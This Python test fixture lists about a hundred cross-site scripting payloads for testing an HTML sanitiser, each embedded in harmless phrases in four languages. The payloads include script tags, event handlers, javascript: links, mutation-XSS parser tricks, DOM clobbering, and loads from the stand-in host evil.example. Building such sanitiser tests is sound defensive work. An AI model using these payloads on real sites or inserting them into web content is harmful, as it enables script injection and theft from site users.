"""Attacks on a sanitiser, each among innocent words of one of the site's languages.

`{}` stands for what runs: in the browser it sets a mark that must never be set.
"""

RUNS = "window.fired=1"
WORDS = {
    "en": ("Decent work & fair pay ", " for all of us."),
    "fr": ("L’égalité à l’œuvre ", " dès aujourd’hui : c’est dû."),
    "es": ("Mañana habrá justicia ", " ¿y hoy?"),
    "ar": ("العدالة الاجتماعية ", " للجميع."),
}
ATTACKS = [
    # Scripts, plain and disguised.
    "<script>{}</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<script\x00>{}</script>",
    "<script/xss>{}</script>",
    "<script\n>{}</script\n>",
    "<<script>{}//<</script>",
    "<script>{}",
    "</title><script>{}</script>",
    "</textarea><script>{}</script>",
    "<svg><script>{}</script></svg>",
    "<svg><script href=data:text/javascript,{} /></svg>",
    "<math><script>{}</script></math>",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&amp;lt;script&amp;gt;{}&amp;lt;/script&amp;gt;",
    # Handlers.
    "<img src=x onerror={}>",
    "<img src=x:x onerror='{}'//",
    "<img/src=x/onerror={}>",
    "<IMG SRC=x OnErRoR={}>",
    '<img src="x` `<script>{}</script>"` `>',
    "<p onmouseover={}>hover</p>",
    "<p/onclick={}>click</p>",
    "<strong onclick\n=\n{}>click</strong>",
    "<a href='#' onfocus={} autofocus>focus</a>",
    "<body onload={}>",
    "<body onpageshow={}>",
    "<svg onload={}>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<details open ontoggle={}>open</details>",
    "<video><source onerror={}></video>",
    "<audio src=x onerror={}>",
    "<input autofocus onfocus={}>",
    "<select autofocus onfocus={}></select>",
    "<textarea autofocus onfocus={}></textarea>",
    "<marquee onstart={}>go</marquee>",
    "<xss onpointerrawupdate={}>move</xss>",
    "<p style=animation-name:x onanimationstart={}>animated</p>",
    # Addresses.
    "<a href=javascript:{}>link</a>",
    "<a href=JaVaScRiPt:{}>link</a>",
    "<a href='java\tscript:{}'>link</a>",
    "<a href='java&#10;script:{}'>link</a>",
    "<a href='&#106;avascript:{}'>link</a>",
    "<a href='&#x6A&#x61&#x76&#x61script:{}'>link</a>",
    "<a href=' \x01javascript:{}'>link</a>",
    "<a href='javascript&colon;{}'>link</a>",
    "<a href=vbscript:msgbox(1)>link</a>",
    "<a href=data:text/html,<script>{}</script>>link</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>link</a>",
    "<a href=//evil.example/>link</a>",
    "<a href=/\\evil.example/>link</a>",
    "<a href=file:///etc/passwd>link</a>",
    "<a href=blob:https://evil.example/1>link</a>",
    "<a href='https:javascript:{}'>link</a>",
    "<a href=x:y ping=https://evil.example/ target=_blank>link</a>",
    "<a xlink:href=javascript:{}>link</a>",
    "<svg><a xlink:href=javascript:{}><text>link</text></a></svg>",
    "<math href=javascript:{}>link</math>",
    "<form action=javascript:{}><button>send</button></form>",
    "<button formaction=javascript:{}>send</button>",
    "<blockquote cite=javascript:{}>quoted</blockquote>",
    # Frames, objects and what reloads a page.
    "<iframe src=javascript:{}></iframe>",
    '<iframe srcdoc="<script>parent.{}</script>"></iframe>',
    "<object data=javascript:{}></object>",
    "<embed src=javascript:{}>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<frameset onload={}></frameset>",
    "<portal src=https://evil.example/></portal>",
    # Styles.
    "<style>@import '//evil.example/x.css'</style>",
    "<style>*{{background:url(//evil.example/)}}</style>",
    "<p style=background:url(javascript:{})>styled</p>",
    "<p style='position:fixed;inset:0'>covers the page</p>",
    "<div style='width:expression({})'>styled</div>",
    # What a second parser reads otherwise than the first.
    '<noscript><p title="</noscript><img src=x onerror={}>"></noscript>',
    "<math><mtext><table><mglyph><style><img src=x onerror={}>",
    (
        '<math><mtext><mglyph><svg><mtext><style><path id="</style>'
        '<img onerror={} src=x>">'
    ),
    '<svg></p><style><a id="</style><img src=1 onerror={}>">',
    "<svg><style><img src=x onerror={}></style></svg>",
    (
        "<form><math><mtext></form><form><mglyph><style></math>"
        "<img src onerror={}></style></mglyph></form></mtext></math></form>"
    ),
    (
        "<math><annotation-xml encoding='text/html'><style><img src=x onerror={}>"
        "</style></annotation-xml></math>"
    ),
    "<svg><foreignObject><p><style><!--</style><img src=x onerror={}>--></style>",
    "<template><img src=x onerror={}></template>",
    '<xmp><p title="</xmp><img src=x onerror={}>"></xmp>',
    '<noembed><p title="</noembed><img src=x onerror={}>"></noembed>',
    "<plaintext><img src=x onerror={}>",
    "<!--><img src=x onerror={}>-->",
    "<!--!><img src=x onerror={}>--!>",
    "<![CDATA[<img src=x onerror={}>]]>",
    "<?xml version='1.0'?><img src=x onerror={}>",
    "<!DOCTYPE x [<!ENTITY y '<img src=x onerror={}>'>]>&y;",
    "<p title='</p><img src=x onerror={}>'>attribute</p>",
    "<table><td><p><a href='#'><table><a href=javascript:{}>link",
    "<ul><li><ul><li><svg><style></ul><img src=x onerror={}>",
    "<h2><h3><p><blockquote><script>{}</script>",
    "<p id=location name=body class=button>clobbers</p>",
    "<a id=forms><a id=forms name=submit href=#x>clobbers</a>",
    # Other writing systems of a browser's history.
    "+ADw-script+AD4-{}+ADw-/script+AD4-",
    "\u2028<img src=x onerror={}>\u2029",
    "<\u0131mg src=x onerror={}>",
    "＜script＞{}＜/script＞",
    "<img src=x onerror=\ufeff{}>",
]


def samples() -> list[str]:
    """Return every attack within words of every language."""
    return [
        f"{before}{attack.format(RUNS)}{after}"
        for attack in ATTACKS
        for before, after in WORDS.values()
    ]
